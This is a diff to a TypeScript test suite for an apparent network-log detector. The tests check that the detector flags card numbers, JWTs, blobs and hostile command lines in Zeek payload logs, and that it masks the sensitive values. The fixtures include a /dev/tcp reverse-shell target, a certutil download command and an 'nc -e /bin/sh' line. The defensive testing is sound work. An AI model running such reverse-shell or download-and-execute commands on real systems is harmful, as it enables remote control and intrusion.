@@ -437,6 +437,106 @@ describe('content.command', () => {
   });
 });
 
+function payloadLog(
+  rows: {
+    ts: number;
+    orig?: boolean;
+    kind: string;
+    pattern: string;
+    value: string;
+    length?: number;
+    uid?: string;
+  }[],
+): string {
+  const head = header(
+    'payload',
+    [...ID, 'proto', 'is_orig', 'kind', 'pattern', 'value', 'length', 'offset'],
+    [...ID_T, 'enum', 'bool', 'string', 'string', 'string', 'count', 'count'],
+  );
+  const lines = rows.map((r, k) =>
+    [
+      r.ts.toFixed(6),
+      r.uid ?? `CP${k}`,
+      '10.0.0.5',
+      52_000 + k,
+      '203.0.113.9',
+      4444,
+      'tcp',
+      r.orig === false ? 'F' : 'T',
+      r.kind,
+      r.pattern,
+      r.value,
+      r.length ?? r.value.length,
+      10 * k,
+    ].join('\t'),
+  );
+  return `${head}\n${lines.join('\n')}\n`;
+}
+
+describe('payload.log records', () => {
+  const rows = [
+    { ts: T0, kind: 'card', pattern: 'card', value: '************1111', uid: 'CP-card' },
+    // A hand-made log with a raw value: masked here all the same.
+    { ts: T0 + 1, kind: 'card', pattern: 'card', value: CARD2 },
+    { ts: T0 + 2, orig: false, kind: 'jwt', pattern: 'jwt', value: '****************abcd' },
+    { ts: T0 + 3, kind: 'blob', pattern: 'base64-blob', value: '****************Zz==', length: 100 },
+    { ts: T0 + 4, kind: 'blob', pattern: 'hex-blob', value: '****************beef', length: 300 },
+    {
+      ts: T0 + 5,
+      orig: false,
+      kind: 'reverse-shell',
+      pattern: 'dev-tcp',
+      value: '/dev/tcp/203.0.113.9/4444',
+    },
+    {
+      ts: T0 + 6,
+      kind: 'download-exec',
+      pattern: 'certutil-download',
+      value: `certutil -urlcache -f http://x/${CARD}`,
+    },
+    { ts: T0 + 7, kind: 'other', pattern: 'no-such-pattern', value: 'whatever' },
+    { ts: T0 + 8, kind: 'card', pattern: 'card', value: '' },
+  ];
+
+  it('reports sensitive values and commands from payloads, with directions, masked', () => {
+    const out = run(zeekViews(payloadLog(rows)));
+    const cards = of(out, 'content.sensitive-data').find((f) => f.evidence.kind === 'card')!;
+    expect(cards.evidence).toMatchObject({
+      count: 2,
+      fields: ['payload'],
+      directions: ['orig'],
+      values: ['************1111', '************0004'],
+    });
+    expect(cards.summary).toContain('10.0.0.5 sent 2 card values in clear text to 203.0.113.9 in payload');
+    const jwt = of(out, 'content.sensitive-data').find((f) => f.evidence.kind === 'jwt')!;
+    expect(jwt.evidence.directions).toEqual(['resp']);
+    expect(jwt.summary).toContain('10.0.0.5 received 1 jwt value in clear text from 203.0.113.9');
+    // Blobs follow enableBlobs and minBlobLength (128 by default): the 100-character one is out.
+    const blobs = of(out, 'content.sensitive-data').filter((f) => String(f.evidence.kind).endsWith('blob'));
+    expect(blobs.map((f) => f.evidence.kind)).toEqual(['hex-blob']);
+    const commands = of(out, 'content.command');
+    expect(commands.map((f) => [f.evidence.kind, f.evidence.family, f.attack, f.severity])).toEqual([
+      ['dev-tcp', 'reverse-shell', 'T1059', 'high'],
+      ['certutil-download', 'download-exec', 'T1105', 'high'],
+    ]);
+    expect(commands[0]!.summary).toContain(
+      'received a dev-tcp command line (reverse-shell) from 203.0.113.9',
+    );
+    expect(commands[1]!.evidence.commands).toEqual(['certutil -urlcache -f http://x/************1111']);
+    expect(JSON.stringify(out)).not.toContain(CARD);
+    expect(JSON.stringify(out)).not.toContain(CARD2);
+  });
+
+  it('follows the switches', () => {
+    const none = run(zeekViews(payloadLog(rows)), cfg({ enableSensitiveData: false, enableCommands: false }));
+    expect(none.findings).toEqual([]);
+    const noBlobs = run(zeekViews(payloadLog(rows)), cfg({ enableBlobs: false }));
+    expect(of(noBlobs, 'content.sensitive-data').map((f) => f.evidence.kind)).toEqual(['card', 'jwt']);
+    const shortBlobs = run(zeekViews(payloadLog(rows)), cfg({ minBlobLength: 64 }));
+    expect(of(shortBlobs, 'content.sensitive-data').length).toBe(4);
+  });
+});
+
 describe('switches, caps and odd records', () => {
   const mixed = (): BatchView[] => [
     ...zeekViews(httpLog([{ ts: T0, uri: `/p?cc=${CARD}&c=nc -e /bin/sh 1.2.3.4 9`, host: 'pastebin.com' }])),
